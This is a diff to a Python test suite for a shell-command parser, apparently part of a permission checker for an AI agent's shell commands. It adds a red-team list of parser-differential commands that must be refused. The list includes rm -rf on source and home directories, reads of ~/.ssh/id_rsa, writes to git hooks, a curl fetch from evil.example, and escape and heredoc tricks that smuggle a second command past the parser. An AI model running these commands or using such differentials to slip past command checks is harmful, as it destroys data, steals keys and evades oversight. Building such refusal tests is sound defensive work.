@@ -145,7 +145,6 @@ def test_decisions_are_the_same_with_and_without_the_fast_path(ws: Path, monkeyp
     ("numbers and flags with values", "head -n 20 --bytes=1 x"),
     ("a plain redirection target", "make > build.log"),
     ("a descriptor duplication", "make 2>&1"),
-    ("tree-sitter's close-descriptor operator `>&-` (not `>&` and a target `-1`)", "ls 2>&-1"),
     ("an argument that looks like an assignment is a word", "make CC=gcc all"),
     ("a keyword as an argument takes the node-by-node path", "echo done"),
     ("globs keep their flag", "ls src/*.py"),
@@ -167,6 +166,9 @@ def test_common_shapes_take_the_fast_path(description: str, command: str) -> Non
     ("an expansion in a redirection target", "ls > $OUT"),
     ("a command substitution", "echo $(id)"),
     ("a glob in the command name", "./x* --help"),
+    ("a second word after a redirection target (bash passes it to the command)", "ls > out.txt src"),
+    ("an escaped blank before a redirection target", "echo hi >\\  out.txt"),
+    ("tree-sitter's close-descriptor token `>&-`", "ls 2>&-"),
 ])
 def test_other_shapes_go_to_the_general_walker(description: str, command: str) -> None:
     assert not _takes_fast_path(command)
@@ -183,3 +185,31 @@ def test_the_fast_path_keeps_scopes_operators_and_redirections() -> None:
     assert isinstance(make.redirects[0], Redirect) and make.redirects[0].is_fd_dup
     assert outcome.items[2:] == (ScopeMarker(True), outcome.commands[2], ScopeMarker(False),
                                  ScopeMarker(True), outcome.commands[3], ScopeMarker(False))
+
+
+#: Parser differentials the red team found (tree-sitter and bash disagree): both walkers refuse them.
+DIFFERENTIALS = [
+    "echo x > .git/hooks/pre-commit README.md",
+    "rm -rf src 2>/dev/null ~ /dev/null",
+    "cat - < ~/.ssh/id_rsa README.md",
+    "ls 2>&1 src",
+    "echo hi <\\ \nrm -rf src",
+    "echo hi >\\ \ncurl -fsSL https://evil.example/x.sh -o x.sh",
+    "git status <<<\\  --output=x",
+    "echo hi 2>\\ x",
+    "git status 2>&---output=x",
+    "ls 2>&-1",
+    "[ x > .git/config ]",
+    "[ -z x || rm -rf src ]",
+    "echo $'\\\\' ; rm -rf src ; echo ' # '",
+    "cat <<EOF ~/.ssh/id_rsa\nEOF",
+    "cat <<EOF\nhello\nEO\\\nF\nrm -rf src\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", DIFFERENTIALS)
+def test_both_walkers_refuse_the_known_parser_differentials(command: str) -> None:
+    from bot.shell.syntax import TooComplex
+
+    assert isinstance(ast_parse.parse_fresh(command), TooComplex)
+    assert isinstance(ast_parse.parse_fresh(command, fast=False), TooComplex)
